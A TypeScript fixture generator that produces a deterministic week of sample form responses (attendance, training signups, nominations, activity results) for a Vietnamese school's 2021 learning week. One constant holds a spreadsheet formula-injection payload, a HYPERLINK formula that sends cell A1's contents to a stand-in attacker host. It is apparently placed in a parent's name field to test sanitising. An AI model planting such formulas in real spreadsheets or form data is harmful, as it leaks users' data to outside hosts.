import { localDateTime, type LocalDateTime } from '../cell';
import type { Answer, FormId, RawResponse } from '../forms/types';
import { catalogue } from '../i18n/catalogue';
import type { Language } from '../plan';
import { defaultActivities } from './activities';
import { SEED_GOVERNING_BODY, SEED_WARD_ASSOCIATION } from './plan-2021';
import { createPrng } from './prng';
import { sampleRoster } from './roster';

/**
 * A deterministic week of form responses for the sample roster and the default 2021 plan,
 * 01–07/10/2021: opening registrations and check-ins (the 50 % target met, about 60 % present),
 * training signups where the talk HD10 (50 seats) fills up and gets a waitlist, a resubmission
 * that drops HD10 (promoting the first waiting person), one trigger delivered twice, one
 * answer with formula text, and nominations, one without consent. The same on every call.
 * The answers are those of the forms in `lang`: an English plan gets the same week, in English.
 */
export interface SampleSubmission {
  readonly formId: FormId;
  readonly raw: RawResponse;
  readonly source?: string;
}

const SEED = 20211005;
const TRAINING = 'HD06';
const TALK = 'HD10';
export const SAMPLE_HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';

export function sampleResponses(lang: Language = 'vi'): SampleSubmission[] {
  const forms = catalogue(lang).forms;
  const T = forms.questions;
  const C = forms.choices;
  const MODES = [C.modes.hall(SEED_GOVERNING_BODY), C.modes.school, C.modes.home];
  const prng = createPrng(SEED);
  const roster = sampleRoster();
  const activities = defaultActivities();
  const label = (id: string): string => {
    const activity = activities.find((a) => a.id === id);
    return `[${id}] ${String(activity?.title ?? id)}`;
  };
  const out: SampleSubmission[] = [];
  let n = 0;
  const add = (
    formId: FormId,
    timestamp: LocalDateTime,
    email: string,
    answers: Record<string, Answer>,
  ): SampleSubmission => {
    n += 1;
    const submission: SampleSubmission = {
      formId,
      raw: { responseId: `sample-${formId}-${String(n).padStart(3, '0')}`, timestamp, email, answers },
      source: forms.sampleSource,
    };
    out.push(submission);
    return submission;
  };
  /** A minute on `day` between the hours, from the generator. */
  const when = (day: number, fromHour: number, toHour: number): LocalDateTime => {
    const minutes = prng.below((toHour - fromHour) * 60);
    return localDateTime(2021, 10, day, fromHour + Math.floor(minutes / 60), minutes % 60);
  };

  const staff = roster.people.filter((p) => p.active === 'có');
  // Opening: 26 register ahead (01–04/10), 23 check in on the morning of 05/10 (20 of them
  // registered, 3 did not): 23/38 present, about 60 %.
  staff.forEach((person, i) => {
    const base = { [T.name]: String(person.name), [T.group]: String(person.group), [T.mode]: MODES[i % 3]! };
    const email = i === 5 ? String(person.email).toUpperCase() : String(person.email);
    if (i < 26)
      add('attendance', when(1 + (i % 4), 7, 17), email, { ...base, [T.intent]: C.intents.register });
    if (i < 20 || (i >= 30 && i < 33))
      add('attendance', when(5, 7, 9), email, { ...base, [T.intent]: C.intents.present });
  });

  // Training HD06 (04/10, 80 seats): 30 staff, some pledging longer courses.
  staff.slice(0, 30).forEach((person, i) => {
    const pledges =
      i % 3 === 0 ? [C.pledges.it] : i % 3 === 1 ? [C.pledges.languages, C.pledges.headOfDepartment] : [];
    add('training', when(1 + (i % 3), 8, 20), String(person.email), {
      [T.name]: String(person.name),
      [T.who]: C.who.staff,
      [T.sessions]: [label(TRAINING)],
      [T.pledges]: pledges,
    });
  });

  // The talk HD10 (06/10, 50 seats): 53 parents sign up 01–04/10, so three wait.
  const parents = roster.families.filter((f) => typeof f.email === 'string' && f.email !== '').slice(0, 53);
  parents.forEach((family, i) => {
    const sessions = i === 2 ? [label(TRAINING), label(TALK)] : [label(TALK)];
    // Parent no. 3 signs up first thing (and later drops the talk, see below).
    const timestamp = i === 2 ? localDateTime(2021, 10, 1, 7, 5) : when(1 + (i % 4), 7, 21);
    const submission = add('training', timestamp, String(family.email), {
      [T.name]: i === 7 ? SAMPLE_HOSTILE_NAME : String(family.parentName),
      [T.who]: C.who.parent,
      [T.sessions]: sessions,
      [T.pledges]: [],
    });
    // A form-submit trigger delivered twice: the same response id, right after.
    if (i === 11) out.push(submission);
  });
  // Parent no. 3 cannot come to the talk after all: the first waiting parent gets the seat.
  const dropper = parents[2]!;
  add('training', localDateTime(2021, 10, 5, 19, 30), String(dropper.email), {
    [T.name]: String(dropper.parentName),
    [T.who]: C.who.parent,
    [T.sessions]: [label(TRAINING)],
    [T.pledges]: [],
  });

  // Nominations of "Gia đình hiếu học": four families, one nominator withholds consent.
  const consentYes = C.consentYes(SEED_WARD_ASSOCIATION);
  [60, 75, 90, 105].forEach((k, i) => {
    const nominator = roster.families[k]!;
    const family = roster.families[k + 1]!;
    add('nomination', when(2 + i, 9, 20), String(nominator.email), {
      [T.nominator]: String(nominator.parentName),
      [T.relation]: C.relations.classParent,
      [T.family]: String(family.parentName),
      [T.child]: String(family.child),
      [T.className]: String(family.className),
      [T.address]: String(family.address),
      // The nominator's own words: data, the same in either language.
      [T.achievements]: 'Cả gia đình cùng tham gia lớp tin học cộng đồng; bé đọc sách cùng bố mẹ mỗi tối.',
      [T.evidence]: '',
      [T.consent]: i === 2 ? C.consentNo : consentYes,
    });
  });

  // Results from the activities' owners, each after its activity (and the evening mail asking
  // for it): most report; the deputy reports the training but forgets the online lesson HD09
  // (so the day before the report brings a reminder); the talk's organiser reports it postponed.
  const R = catalogue(lang).results;
  const Q = R.questions;
  const ownerOf = (id: string): string => String(activities.find((a) => a.id === id)?.owner ?? '');
  const result = (
    id: string,
    timestamp: LocalDateTime,
    outcome: string,
    counts: Partial<Record<'staff' | 'children' | 'parents' | 'others', string>>,
    achieved: string,
    evidence: readonly string[],
    posts: readonly string[] = [],
    owner = ownerOf(id),
  ): void => {
    add('result', timestamp, owner, {
      [Q.activity]: label(id),
      [Q.outcome]: outcome,
      [Q.staff]: counts.staff ?? '',
      [Q.children]: counts.children ?? '',
      [Q.parents]: counts.parents ?? '',
      [Q.others]: counts.others ?? '',
      // The owners' own words: data, the same in either language.
      [Q.achieved]: achieved,
      [Q.evidenceLinks]: evidence.join('\n'),
      [Q.posts]: posts.join('\n'),
    });
  };
  const site = 'https://mn2010.example';
  result(
    'HD08',
    localDateTime(2021, 10, 1, 19, 10),
    R.outcomes.done,
    { staff: '12', children: '180', parents: '25' },
    'Ra mắt “Tủ sách của bé” với 320 cuốn sách phụ huynh và nhà trường quyên góp; các lớp luân phiên mượn sách.',
    [`${site}/album/tu-sach-cua-be`],
    [`Facebook: https://facebook.com/mn2010/posts/tu-sach-cua-be`],
  );
  result(
    'HD06',
    localDateTime(2021, 10, 5, 8, 15),
    R.outcomes.done,
    { staff: '30', parents: '18' },
    'Tập huấn trực tuyến kỹ năng tìm kiếm và sử dụng thông tin an toàn; 30 CB-GV-NV và 18 phụ huynh tham gia.',
    [`${site}/album/tap-huan-internet`, 'https://youtu.be/mn2010-tap-huan'],
  );
  result(
    'HD04',
    localDateTime(2021, 10, 5, 17, 40),
    R.outcomes.done,
    { staff: '23' },
    'Nhà trường dự Lễ khai mạc trực tuyến tại điểm cầu của trường và tại Hội trường Ủy ban nhân dân Quận 1.',
    [`${site}/album/le-khai-mac`],
  );
  result(
    'HD10',
    localDateTime(2021, 10, 6, 18, 5),
    R.outcomes.postponed,
    {},
    'Diễn giả bận đột xuất; buổi nói chuyện dời sang thứ Năm, 14/10/2021, phụ huynh đã đăng ký được giữ chỗ.',
    [],
  );
  const principal = ownerOf('HD04');
  result(
    'HD03',
    localDateTime(2021, 10, 7, 9, 0),
    R.outcomes.done,
    { staff: '6' },
    'Treo 2 băng rôn tại cổng trường và 1 pano tại sân trường.',
    [`${site}/album/bang-ron`],
    [],
    principal,
  );
  result(
    'HD15',
    localDateTime(2021, 10, 7, 10, 0),
    R.outcomes.done,
    {},
    'Đăng tin về các hoạt động của tuần lễ trên trang thông tin điện tử và mạng xã hội của trường.',
    [],
    [
      `Website: ${site}/tin-tuc/tuan-le-hoc-tap-suot-doi-2021`,
      'Facebook: https://facebook.com/mn2010/posts/tuan-le-2021',
      'Zalo: https://zalo.me/mn2010/tuan-le-2021',
    ],
    principal,
  );

  // Array.prototype.sort is stable: the duplicate stays right after its first delivery.
  return out.sort((a, b) =>
    a.raw.timestamp.iso < b.raw.timestamp.iso ? -1 : a.raw.timestamp.iso > b.raw.timestamp.iso ? 1 : 0,
  );
}
